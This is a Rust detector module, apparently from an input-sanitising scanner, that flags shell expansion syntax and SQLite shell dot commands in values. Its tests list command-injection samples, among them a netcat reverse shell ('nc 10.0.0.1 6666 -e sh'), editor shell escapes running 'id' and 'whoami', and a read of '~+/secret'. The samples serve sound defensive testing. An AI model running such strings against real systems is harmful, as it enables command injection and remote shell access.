//! Shell expansions that are syntax no prose or data format writes, found without a
//! command name: bash history designators (`!!`, `!-2`), directory-stack tildes (`~+`,
//! `~-1`), arithmetic expansion (`$[2+2]`, `$(( … ))`), parameter expansion with operators
//! (`${x#…}`, `${p%%…}`, `${`…`}`), brace expansion glued to letters (`{l,-lh}s`,
//! `c{a,oun}t`, which the shell turns into `ls -lhs` and `cat count`), and SQLite shell dot
//! commands after a statement separator (`;.shell id`, `;."system whoami`).
//!
//! Each check is a bounded look at a trigger byte (`!`, `~`, `$`, `{`, `;`), so the scan is
//! linear and costs nothing on values without them.

use super::lexicon;
use crate::needle;
use std::ops::Range;

/// Runs every check; returns the first span found.
pub(super) fn find(s: &[u8]) -> Option<Range<usize>> {
    let trimmed = trim(s);
    if let Some(r) = whole_value(s, trimmed.clone()) {
        return Some(r);
    }
    // Only the trigger bytes, in order: two memchr cursors merged.
    let mut a = memchr::memchr3_iter(b'!', b'~', b'$', s).peekable();
    let mut b = memchr::memchr2_iter(b'{', b';', s).peekable();
    loop {
        let i = match (a.peek().copied(), b.peek().copied()) {
            (Some(x), Some(y)) if x < y => {
                a.next();
                x
            }
            (_, Some(y)) => {
                b.next();
                y
            }
            (Some(x), None) => {
                a.next();
                x
            }
            (None, None) => break,
        };
        let found = match s[i] {
            b'!' if s.get(i + 1) == Some(&b'-') => history_minus(s, i),
            b'!' if i > 0 && matches!(s[i - 1], b':' | b'\\') => editor_escape(s, i),
            b'~' => tilde_path(s, i),
            b'$' => match s.get(i + 1) {
                Some(b'[') => arithmetic_bracket(s, i),
                Some(b'(') if s.get(i + 2) == Some(&b'(') => arithmetic_parens(s, i),
                Some(b'{') => parameter(s, i),
                _ => None,
            },
            b'{' => brace(s, i),
            b';' => sqlite_dot(s, i),
            _ => None,
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

fn trim(s: &[u8]) -> Range<usize> {
    let start = s
        .iter()
        .position(|c| !c.is_ascii_whitespace())
        .unwrap_or(s.len());
    let end = s
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(start, |p| p + 1);
    start..end
}

fn is_boundary(c: Option<&u8>) -> bool {
    matches!(
        c,
        None | Some(b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'(' | b')')
    )
}

/// A value that is nothing but history designators (`!!`, `!1`, `!-1!-2`) or a
/// directory-stack tilde (`~+`, `~-`, `~2`, `~+1/file`).
fn whole_value(s: &[u8], r: Range<usize>) -> Option<Range<usize>> {
    let v = &s[r.clone()];
    if v.len() < 2 || v.len() > 32 {
        return None;
    }
    if v[0] == b'!' {
        let mut i = 0;
        while i < v.len() {
            if v[i] != b'!' {
                return None;
            }
            i += 1;
            match v.get(i) {
                Some(b'!') if v.get(i + 1).is_none_or(|&c| c == b'!') => i += 1,
                Some(b'-' | b'0'..=b'9') => {
                    if v[i] == b'-' {
                        i += 1;
                    }
                    let digits = v[i..].iter().take_while(|c| c.is_ascii_digit()).count();
                    if digits == 0 {
                        return None;
                    }
                    i += digits;
                }
                _ => return None,
            }
        }
        return Some(r);
    }
    if v[0] == b'~' {
        let rest = &v[1..];
        let rest = rest
            .strip_prefix(b"+")
            .or_else(|| rest.strip_prefix(b"-"))
            .map_or((rest, false), |r| (r, true));
        let digits = rest.0.iter().take_while(|c| c.is_ascii_digit()).count();
        let tail = &rest.0[digits..];
        if (rest.1 || digits > 0) && (tail.is_empty() || tail[0] == b'/') {
            return Some(r);
        }
    }
    None
}

/// `!-N` after a blank or separator: "the command N back" in bash history.
fn history_minus(s: &[u8], i: usize) -> Option<Range<usize>> {
    if i > 0 && !is_boundary(s.get(i - 1)) && s[i - 1] != b'!' {
        return None;
    }
    let digits = s[i + 2..].iter().take_while(|c| c.is_ascii_digit()).count();
    let end = i + 2 + digits;
    (digits > 0 && (is_boundary(s.get(end)) || s.get(end) == Some(&b'!'))).then_some(i..end)
}

/// `~+/…`, `~-/…`, `~-2/…` after a blank or separator: a directory-stack path.
fn tilde_path(s: &[u8], i: usize) -> Option<Range<usize>> {
    if i > 0 && !is_boundary(s.get(i - 1)) {
        return None;
    }
    let mut j = i + 1;
    if !matches!(s.get(j), Some(b'+' | b'-')) {
        return None;
    }
    j += 1;
    j += s[j..].iter().take_while(|c| c.is_ascii_digit()).count();
    (s.get(j) == Some(&b'/') && s.get(j + 1).is_some_and(u8::is_ascii_alphanumeric))
        .then_some(i..j + 1)
}

/// `:!cmd`, `\!cmd`: an editor's shell escape (`vi -c ':!id'`, `vim +silent\ \!whoami`)
/// running a known command.
fn editor_escape(s: &[u8], i: usize) -> Option<Range<usize>> {
    let len = s[i + 1..s.len().min(i + 33)]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_'))
        .count();
    let end = i + 1 + len;
    (len >= 2
        && lexicon::lookup(&s[i + 1..end]).is_some()
        && (is_boundary(s.get(end)) || matches!(s.get(end), Some(b'\'' | b'"'))))
    .then_some(i..end)
}

fn is_arith_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(
            c,
            b'_' | b' '
                | b'+'
                | b'-'
                | b'*'
                | b'/'
                | b'%'
                | b'$'
                | b'('
                | b')'
                | b'<'
                | b'>'
                | b'&'
                | b'|'
                | b'^'
                | b'!'
                | b'='
        )
}

fn is_operand(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'_' | b')' | b'$')
}

/// A binary operator between two operands: `2+2`, `a * b`, `x%3`.
fn has_binary_op(inner: &[u8]) -> bool {
    let compact = inner.iter().filter(|&&c| c != b' ');
    let mut prev: Option<u8> = None;
    let mut pending_op = false;
    for &c in compact {
        if matches!(
            c,
            b'+' | b'-' | b'*' | b'/' | b'%' | b'<' | b'>' | b'&' | b'|' | b'^'
        ) {
            if prev.is_some_and(is_operand) {
                pending_op = true;
            }
        } else if is_operand(c) && pending_op {
            return true;
        } else {
            pending_op = false;
        }
        prev = Some(c);
    }
    false
}

/// `$[2+2]`, `$[]`: bash's old arithmetic expansion. JSONPath's `$[0]`, `$[-1]`, `$[*]`
/// have no binary operator and pass.
fn arithmetic_bracket(s: &[u8], i: usize) -> Option<Range<usize>> {
    let close = s[i + 2..s.len().min(i + 66)]
        .iter()
        .position(|&c| c == b']')?;
    let inner = &s[i + 2..i + 2 + close];
    let end = i + 3 + close;
    (inner.iter().all(|&c| is_arith_byte(c)) && (inner.is_empty() || has_binary_op(inner)))
        .then_some(i..end)
}

/// `$(( … ))` holding arithmetic or a nested `$(`.
fn arithmetic_parens(s: &[u8], i: usize) -> Option<Range<usize>> {
    let body = &s[i + 3..s.len().min(i + 131)];
    let close = needle::find(body, b"))")?;
    let inner = &body[..close];
    let end = i + 3 + close + 2;
    (inner.iter().all(|&c| is_arith_byte(c))
        && (has_binary_op(inner) || needle::find(inner, b"$(").is_some()))
    .then_some(i..end)
}

/// `${name#pat}`, `${name%%pat}`, `${name//a/b}`, `${#name}`, `${!name}`, or a substitution
/// inside the braces (`${`id`}`, `${$(id)}`). Template languages write `${name}` and
/// `${a.b}`, never these operators.
fn parameter(s: &[u8], i: usize) -> Option<Range<usize>> {
    let body = &s[i + 2..s.len().min(i + 66)];
    let mut j = 0;
    if matches!(body.first(), Some(b'#' | b'!'))
        && body
            .get(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        j = 1;
        let name = body[j..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        return (body.get(j + name) == Some(&b'}')).then_some(i..i + 3 + j + name);
    }
    if matches!(body.first(), Some(b'`')) || body.starts_with(b"$(") {
        return Some(i..i + 3);
    }
    let name = body
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count();
    j += name;
    if name == 0 || name > 32 {
        return None;
    }
    match body.get(j) {
        Some(b'#' | b'%') => {
            let close = body[j..].iter().position(|&c| c == b'}' || c == b'\n')?;
            (body.get(j + close) == Some(&b'}') || body[j + 1..].contains(&b'}'))
                .then_some(i..i + 2 + j + 1)
        }
        Some(b'/') if body.get(j + 1) == Some(&b'/') => Some(i..i + 2 + j + 2),
        _ => None,
    }
}

/// `{l,-lh}s`, `c{a,oun}t`: a brace expansion glued to letters whose first expansion is a
/// command (`ls`, `cat`).
fn brace(s: &[u8], i: usize) -> Option<Range<usize>> {
    let close = s[i + 1..s.len().min(i + 66)]
        .iter()
        .position(|&c| c == b'}')?;
    let inner = &s[i + 1..i + 1 + close];
    let end = i + 2 + close;
    if !inner.contains(&b',')
        || !inner
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b',' | b'-' | b'_' | b'.'))
    {
        return None;
    }
    let prefix_len = s[i.saturating_sub(17)..i]
        .iter()
        .rev()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    let suffix_len = s[end..s.len().min(end + 17)]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric())
        .count();
    if prefix_len + suffix_len == 0 || prefix_len + suffix_len > 16 {
        return None;
    }
    let first = inner.split(|&c| c == b',').next().unwrap_or_default();
    let mut name = [0u8; 48];
    let parts: [&[u8]; 3] = [&s[i - prefix_len..i], first, &s[end..end + suffix_len]];
    let mut len = 0;
    for p in parts {
        if len + p.len() > name.len() {
            return None;
        }
        name[len..len + p.len()].copy_from_slice(p);
        len += p.len();
    }
    (len >= 2 && lexicon::lookup(&name[..len]).is_some())
        .then_some(i - prefix_len..end + suffix_len)
}

/// The SQLite shell's dot commands that run programs or touch files, and how short an
/// abbreviation the shell accepts for the ones that run programs.
const DOT_RUN: &[&[u8]] = &[b"shell", b"system"];
const DOT_FILE: &[&[u8]] = &[
    b"databases",
    b"import",
    b"output",
    b"once",
    b"load",
    b"read",
];

/// `;` then (blanks, line breaks, or their escapes `\n`) `.shell cmd`, `.system cmd`,
/// `."shell cmd`, `.sh cmd`, `.databases`: a SQLite shell command after a statement.
fn sqlite_dot(s: &[u8], i: usize) -> Option<Range<usize>> {
    let mut j = i + 1;
    let limit = s.len().min(i + 24);
    let mut line_break = false;
    while j < limit {
        match s[j] {
            b' ' | b'\t' | b'"' | b'\'' => j += 1,
            b'\n' | b'\r' => {
                line_break = true;
                j += 1;
            }
            b'\\' if matches!(s.get(j + 1), Some(b'n' | b'r')) => {
                line_break = true;
                j += 2;
            }
            _ => break,
        }
    }
    if s.get(j) != Some(&b'.') {
        return None;
    }
    j += 1;
    // `. shell` with a blank after the dot only on a new line: "end;. Shell companies" is
    // prose.
    while j < i + 32 {
        match s.get(j) {
            Some(b'"' | b'\'' | b'\\') => j += 1,
            Some(b' ') if line_break => j += 1,
            _ => break,
        }
    }
    let len = s[j..].iter().take_while(|c| c.is_ascii_lowercase()).count();
    let word = &s[j..j + len];
    let after = j + len;
    let arg = matches!(s.get(after), Some(b' ' | b'\t' | b'+'))
        && s.get(after + 1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'"' | b'\''));
    if len >= 2 && arg && DOT_RUN.iter().any(|d| d.starts_with(word)) {
        return Some(i..after);
    }
    let ends = is_boundary(s.get(after)) || matches!(s.get(after), Some(b'\\'));
    (DOT_FILE.contains(&word) && ends).then_some(i..after)
}

#[cfg(test)]
mod tests {
    use super::find;

    fn hit(s: &str) -> bool {
        find(s.to_ascii_lowercase().as_bytes()).is_some()
    }

    #[test]
    fn expansions() {
        for attack in [
            "!!",
            "!1",
            "!-1!-2",
            "x; !-2",
            "~+",
            "~-",
            "~-1",
            "~+5",
            "~0",
            "cat ~+/secret",
            "$[2+2]",
            "$[]",
            "$((1 + 2))",
            "$(($() 42))",
            "${x#{}}",
            "${path#{}/}",
            "${`id`}",
            "${#path}",
            "${p//a/b}",
            "{l,-lh}s",
            "c{a,oun}t",
            ";.shell nc 10.0.0.1 6666 -e sh",
            ";\\n.system id",
            "1;.sh whoami",
            "1;.\"shell whoami",
            ";\n.databases",
            ";vi dddd +silent\\ \\!whoami +wq",
            "vim -c ':!id'",
        ] {
            assert!(hit(attack), "{attack}");
        }
    }

    #[test]
    fn look_alikes() {
        for benign in [
            "Great!!",
            "wow !!!",
            "hello !1 world",
            "n!-1",
            "~",
            "~/Documents",
            "~+z",
            "~z",
            "~5 minutes",
            "about ~2",
            "$[0]",
            "$[-1]",
            "$[*]",
            "$['name']",
            "${DATABASE_URL}",
            "${user.name}",
            "${VAR:-default}",
            "{\"a\":1,\"b\":2}",
            "{a,b}",
            "size {small,large} shirt",
            "The end;. Shell companies are",
            "select 1;. then",
            "$(a+b)$",
            "Note:!important",
            "ratio 3:!2",
        ] {
            assert!(!hit(benign), "{benign}");
        }
    }
}
